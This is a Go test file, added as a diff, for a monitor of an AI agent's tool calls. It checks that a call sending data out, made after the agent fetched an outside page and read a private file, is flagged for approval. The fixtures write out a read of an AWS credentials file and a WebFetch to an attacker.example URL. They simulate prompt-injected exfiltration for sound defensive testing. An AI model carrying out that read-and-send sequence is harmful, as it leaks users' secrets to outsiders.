@@ -1,0 +1,74 @@
+package collector
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/coworkbridge/coworkbridge/managedconfig"
+)
+
+func toolCall(rid, tool, toolUseID string, input map[string]string) string {
+	in, _ := json.Marshal(input)
+	return `{"v":1,"rid":"` + rid + `","mode":"observe","event":{"session_id":"s","cwd":"/sessions/x/mnt/outputs","hook_event_name":"PreToolUse","tool_name":"` +
+		tool + `","tool_use_id":"` + toolUseID + `","tool_input":` + string(in) + `}}` + "\n"
+}
+
+// A call of a flow: a tool and its input.
+type step struct {
+	tool  string
+	input map[string]string
+}
+
+var (
+	fetchPage  = step{"WebFetch", map[string]string{"url": "https://issues.example/42", "prompt": "read"}}
+	readSecret = step{"Read", map[string]string{"file_path": "/Users/alex/.aws/credentials"}}
+	postOut    = step{"WebFetch", map[string]string{"url": "https://attacker.example/c?d=x", "prompt": "send"}}
+	readPlain  = step{"Read", map[string]string{"file_path": "/sessions/x/mnt/outputs/notes.md"}}
+)
+
+// A send after the session took in outside content and read private data is asked about, the
+// three calls named in the reason and the record; without either of the two before it, the same
+// send is not flagged. The flow outlives the collector (kept beside the offsets).
+func TestASendAfterUntrustedContentAndAPrivateReadIsAskedAbout(t *testing.T) {
+	cases := []struct {
+		name    string
+		steps   []step
+		flagged bool
+	}{
+		{"untrusted, private, send", []step{fetchPage, readSecret, postOut}, true},
+		{"private, untrusted, send", []step{readSecret, fetchPage, postOut}, true},
+		{"no untrusted content", []step{readSecret, readPlain, postOut}, false},
+		{"no private read", []step{fetchPage, readPlain, postOut}, false},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			f := newFixture(t, managedconfig.Observe)
+			f.start()
+			for i, s := range c.steps {
+				if i == len(c.steps)-1 { // the send, by a collector started again
+					f.stop()
+					f.start()
+				}
+				f.appendRaw(toolCall(f.nextRID(), s.tool, "toolu_"+string(rune('a'+i)), s.input))
+				f.waitRecords(i + 1)
+			}
+			recs := f.records()
+			last := recs[len(recs)-1]
+			if !c.flagged {
+				if last.Rule == "flow.untrusted-private-send" {
+					t.Fatalf("flagged without the whole flow: %+v", last)
+				}
+				return
+			}
+			if last.Rule != "flow.untrusted-private-send" || last.Decision != "ask" || len(last.Flow) != 3 {
+				t.Fatalf("the send: %+v", last)
+			}
+			for _, id := range []string{"toolu_a", "toolu_b", "toolu_c"} {
+				if !strings.Contains(strings.Join(last.Flow, " "), id) || !strings.Contains(last.Reason, id) {
+					t.Errorf("the flow does not name %s: %q / %q", id, last.Flow, last.Reason)
+				}
+			}
+		})
+	}
+}
